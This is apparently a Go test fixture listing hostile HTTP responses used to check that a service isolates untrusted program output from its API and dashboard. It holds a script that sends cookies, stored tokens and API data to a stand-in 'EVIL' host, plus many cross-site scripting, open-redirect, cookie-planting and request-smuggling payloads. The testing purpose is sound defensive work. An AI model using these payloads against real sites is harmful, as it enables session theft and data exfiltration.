package runapi_test

import (
	"net/url"
	"strings"
)

// hostile is an answer by which a program attacks the origin that it shares with the API and the
// dashboard.
type hostile struct {
	name string
	// as is what the browser takes the answer for: what it goes to and shows in a frame where
	// left out, else the name of a way of stage.js.
	as      string
	Status  int      `json:"status,omitempty"`
	Headers []header `json:"headers,omitempty"`
	Cookies []header `json:"cookies,omitempty"`
	Body    string   `json:"body"`
	// harmless says that this browser does no harm with it even where nothing is in its way;
	// another may.
	harmless bool
}

type header struct {
	Name  string `json:"name"`
	Value string `json:"value"`
}

// What stands in answers for the address of another site, for that of an answer of the same
// program which is a script, and for the script itself.
const (
	evil    = "EVIL"
	another = "ANOTHER"
	attack  = "ATTACK"
)

// attackText is what runs where an answer gets to run anything: it takes all that it can
// reach of the origin.
const attackText = `(function(){var g=typeof window=='undefined'?self:window,s=function(t){fetch('EVIL/leak?'+t,{mode:'no-cors'}).catch(function(){})};` +
	`s('ran');if(g.document){s('cookie='+encodeURIComponent(document.cookie));document.title='PWNED';document.cookie='planted=1;path=/'}` +
	`try{s('storage='+localStorage.token);localStorage.token='changed'}catch(e){}` +
	`fetch('/v1/limits',{credentials:'include'}).then(function(r){return r.text()}).then(function(t){s('api='+t)}).catch(function(){})})()`

var html = header{"Content-Type", "text/html; charset=utf-8"}

func pageOf(name, body string, headers ...header) hostile {
	return hostile{name: name, Headers: append([]header{html}, headers...), Body: body}
}

func (a hostile) noHarm() hostile {
	a.harmless = true
	return a
}

var hostileAnswers = []hostile{
	pageOf("script", "<script>ATTACK</script>"),
	{name: "script for the dashboard", as: "script", Headers: []header{{"Content-Type", "text/javascript"}}, Body: attack},
	{name: "cookies of the service", Cookies: []header{{"QLSESSID", "x"}, {"qlsessid", "x"}, {"qldash", "x"}, {"QLD_x", "x"}}},
	{name: "redirect to the API", Status: 302, Headers: []header{{"Location", "/v1/limits"}}},

	pageOf("handler of an error", `<img src="data:," onerror="ATTACK">`),
	pageOf("handler of a load", `<body onload="ATTACK">`),
	pageOf("SVG in HTML", `<svg onload="ATTACK"></svg>`),
	pageOf("frame of a text", `<iframe srcdoc="&lt;script&gt;ATTACK&lt;/script&gt;"></iframe>`),
	pageOf("frame with leave", `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;ATTACK&lt;/script&gt;"></iframe>`),
	pageOf("frame of the API", `<iframe src="/v1/limits"></iframe>`),
	pageOf("frame of an answer", `<iframe src="ANOTHER"></iframe>`).noHarm(),
	pageOf("frame of a javascript address", `<iframe src="javascript:ATTACK"></iframe>`),
	pageOf("frame of data", `<iframe src="data:text/html,<script>fetch('EVIL/leak?data')</script>"></iframe>`),
	pageOf("frameset", `<frameset><frame src="/v1/limits"></frameset>`),
	pageOf("object", `<object data="/v1/limits"></object>`),
	pageOf("embed", `<embed src="/v1/limits">`),
	pageOf("style", `<link rel="stylesheet" href="/v1/limits">`),
	pageOf("style of another site", `<style>@import url(EVIL/leak?style);</style>`),
	pageOf("font", `<style>@font-face{font-family:a;src:url(EVIL/leak?font)}body{font-family:a}</style>text`),
	pageOf("image", `<img src="/v1/limits">`),
	pageOf("image of another site", `<img src="EVIL/leak?image">`),
	pageOf("set of images", `<img srcset="/v1/limits 1x">`),
	pageOf("sound", `<audio src="/v1/limits" autoplay></audio>`),
	pageOf("film", `<video src="/v1/limits" autoplay poster="EVIL/leak?poster"></video>`),
	pageOf("image of a form", `<input type="image" src="/v1/limits">`),
	pageOf("prefetch", `<link rel="prefetch" href="/v1/limits">`),
	pageOf("preload", `<link rel="preload" as="fetch" crossorigin="use-credentials" href="/v1/limits">`),
	pageOf("preload of a module", `<link rel="modulepreload" href="ANOTHER">`).noHarm(),
	pageOf("icon", `<link rel="icon" href="/v1/limits">`),
	pageOf("speculation", `<script type="speculationrules">{"prefetch":[{"urls":["/v1/limits"],"eagerness":"immediate"}]}</script>`),
	pageOf("base", `<base href="EVIL/"><img src="leak?base">`),
	pageOf("refresh", `<meta http-equiv="refresh" content="0;url=/v1/limits">`),
	pageOf("refresh to another site", `<meta http-equiv="refresh" content="0;url=EVIL/leak?refresh">`),
	pageOf("policy in the page", `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; script-src * 'unsafe-inline'"><script>ATTACK</script>`),
	pageOf("script of another site", `<script src="EVIL/leak.js"></script>`),
	pageOf("script of the program", `<script src="ANOTHER"></script>`),
	pageOf("module of the program", `<script type="module" src="ANOTHER"></script>`),
	pageOf("module by a map", `<script type="importmap">{"imports":{"a":"ANOTHER"}}</script><script type="module">import "a"</script>`),
	pageOf("form that sends itself", `<form id="f" method="post" action="/v1/query" enctype="text/plain"><input name="a" value="b"></form><script>document.getElementById("f").submit()</script>`),
	pageOf("shadow", `<div><template shadowrootmode="open"><img src="x:" onerror="ATTACK"></template></div>`),
	pageOf("math", `<math><mtext><style><img src="x:" onerror="ATTACK"></style></mtext></math><img src="x:" onerror="ATTACK">`),

	{name: "SVG", Headers: []header{{"Content-Type", "image/svg+xml"}}, Body: `<svg xmlns="http://www.w3.org/2000/svg"><script>ATTACKXML</script></svg>`},
	{name: "XHTML", Headers: []header{{"Content-Type", "application/xhtml+xml"}}, Body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>ATTACKXML</script></body></html>`},
	{name: "XML", Headers: []header{{"Content-Type", "text/xml"}}, Body: `<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>ATTACKXML</h:script></a>`},
	{name: "HTML as text", Headers: []header{{"Content-Type", "text/plain"}}, Body: "<html><script>ATTACK</script>", harmless: true},
	{name: "HTML of no type", Body: "<html><script>ATTACK</script>"},
	{name: "HTML as an image", Headers: []header{{"Content-Type", "image/png"}}, Body: "<html><script>ATTACK</script>", harmless: true},
	{name: "HTML of an unknown type", Headers: []header{{"Content-Type", "x/x"}}, Body: "<html><script>ATTACK</script>", harmless: true},
	{name: "HTML in parts", Headers: []header{{"Content-Type", "multipart/x-mixed-replace; boundary=a"}}, Body: "--a\r\nContent-Type: text/html\r\nSet-Cookie: QLSESSID=x; Path=/\r\n\r\n<script>ATTACK</script>\r\n--a--\r\n", harmless: true},
	{name: "HTML in a mail", Headers: []header{{"Content-Type", "message/rfc822"}}, Body: "Content-Type: text/html\r\n\r\n<script>ATTACK</script>", harmless: true},
	{name: "other characters", Headers: []header{{"Content-Type", "text/html; charset=iso-2022-jp"}}, Body: "<script>ATTACK</script>"},

	pageOf("policy", "<script>ATTACK</script>", header{"Content-Security-Policy", "default-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin"}),
	pageOf("policy that reports", `<script>ATTACK</script><img src="/v1/x">`, header{"Content-Security-Policy-Report-Only", "default-src 'none'; report-uri EVIL/leak?report"}),
	pageOf("reports", "<script>ATTACK</script>", header{"Reporting-Endpoints", `default="EVIL/leak?reporting"`}, header{"NEL", `{"report_to":"default","max_age":60}`}),
	pageOf("header to refresh", "", header{"Refresh", "0; url=/v1/limits"}),
	pageOf("header to refresh to another site", "", header{"Refresh", "0; url=EVIL/leak?header"}),
	pageOf("header to preload", "text", header{"Link", "</v1/limits>; rel=preload; as=image"}),
	pageOf("header of a style", "text", header{"Link", "<EVIL/leak?link>; rel=preload; as=style"}),
	pageOf("header of speculation", "text", header{"Speculation-Rules", `"ANOTHER"`}).noHarm(),
	pageOf("header of a cookie", "", header{"Set-Cookie", "QLSESSID=x; Path=/"}),
	pageOf("header of another cookie", "", header{"Set-Cookie", "planted=1; Path=/"}),
	pageOf("header that clears", "", header{"Clear-Site-Data", `"cookies", "storage"`}),
	{name: "cookies with prefixes", Cookies: []header{{"__Host-qldash", "x"}, {"__host-QLx", "x"}, {"__Secure-qldash", "x"}}, harmless: true},
	{name: "many cookies", Cookies: manyCookies(100)},
	{name: "redirect to another site", Status: 302, Headers: []header{{"Location", "EVIL/leak?redirect"}}},
	{name: "redirect by slashes", Status: 302, Headers: []header{{"Location", "//HOST/leak?slashes"}}},
	{name: "redirect by backslashes", Status: 302, Headers: []header{{"Location", `/\HOST/leak?backslashes`}}},
	{name: "redirect by a tab", Status: 302, Headers: []header{{"Location", "/\t/HOST/leak?tab"}}},
	{name: "redirect by dots", Status: 302, Headers: []header{{"Location", "/run/mallory/%2e%2e/%2e%2e/v1/limits"}}},
	{name: "redirect that keeps the method", Status: 307, Headers: []header{{"Location", "/v1/limits"}}},
	{name: "redirect to a script", Status: 302, Headers: []header{{"Location", "javascript:ATTACK"}}, harmless: true},
	{name: "other protocol", Status: 101, Headers: []header{{"Upgrade", "h2c"}, {"Connection", "Upgrade"}}, harmless: true},
	{name: "early hints", Status: 103, Headers: []header{{"Link", "</v1/limits>; rel=preload; as=style"}}},
	{name: "other length", Headers: []header{html, {"Content-Length", "1"}, {"Transfer-Encoding", "chunked"}}, Body: "0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>ATTACK</script>", harmless: true},
	pageOf("log-in", "", header{"WWW-Authenticate", `Basic realm="ql"`}).noHarm(),

	{name: "module for the dashboard", as: "module", Headers: []header{{"Content-Type", "text/javascript"}}, Body: attack},
	{name: "import of the dashboard", as: "import", Headers: []header{{"Content-Type", "text/javascript"}}, Body: attack},
	{name: "worker of the dashboard", as: "worker", Headers: []header{{"Content-Type", "text/javascript"}}, Body: attack},
	{name: "shared worker of the dashboard", as: "sharedworker", Headers: []header{{"Content-Type", "text/javascript"}}, Body: attack},
	{name: "service worker of the dashboard", as: "serviceworker", Headers: []header{{"Content-Type", "text/javascript"}, {"Service-Worker-Allowed", "/"}}, Body: attack},
	{name: "style for the dashboard", as: "style", Headers: []header{{"Content-Type", "text/css"}}, Body: `body{--taken:1}`},
	{name: "frame of the dashboard", as: "frame", Headers: []header{html}, Body: "<script>ATTACK;parent.postMessage('taken','*')</script>", harmless: true},
	{name: "read by another site", as: "foreign-fetch", Headers: []header{{"Access-Control-Allow-Origin", "EVIL"}, {"Access-Control-Allow-Credentials", "true"}}, Body: "secret-answer"},
	{name: "script of another site's", as: "foreign-script", Headers: []header{{"Content-Type", "text/javascript"}, {"Cross-Origin-Resource-Policy", "cross-origin"}}, Body: "fetch('EVIL/leak?foreign',{mode:'no-cors'})"},
}

func manyCookies(n int) (list []header) {
	for i := range n {
		list = append(list, header{"c" + strings.Repeat("x", i%5) + string(rune('a'+i%26)) + string(rune('a'+i/26)), "1"})
	}
	return list
}

// filled is the answer with the addresses of a browser's test in it.
func (a hostile) filled(other, anotherAnswer string) hostile {
	u, _ := url.Parse(other)
	script := strings.ReplaceAll(attackText, evil, other)
	xml := strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(script)
	r := strings.NewReplacer("ATTACKXML", xml, attack, script, evil, other, another, anotherAnswer, "HOST", u.Host)
	fill := func(list []header) []header {
		var filled []header
		for _, h := range list {
			filled = append(filled, header{h.Name, r.Replace(h.Value)})
		}
		return filled
	}
	a.Headers, a.Cookies, a.Body = fill(a.Headers), fill(a.Cookies), r.Replace(a.Body)
	return a
}
